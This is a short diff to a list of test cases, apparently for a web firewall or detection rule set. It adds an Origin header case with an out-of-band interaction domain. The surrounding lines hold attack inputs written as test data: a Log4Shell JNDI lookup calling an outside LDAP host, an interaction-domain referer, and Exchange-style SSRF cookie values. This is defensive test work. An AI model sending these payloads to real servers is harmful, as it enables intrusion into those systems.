@@ -33,6 +33,7 @@ CASES = [
     ("X-Api-Version", "${jndi:ldap://c6k0abc.oast.fun/a}", 600300,
      "header:X-Api-Version"),
     ("Referer", "http://abc123.OASTIFY.com/ref", 600300, "referer"),
+    ("Origin", "https://c6k0abc.oast.live", 600300, "header:Origin"),
     ("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/"
      "default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3",
      700915, "cookie"),
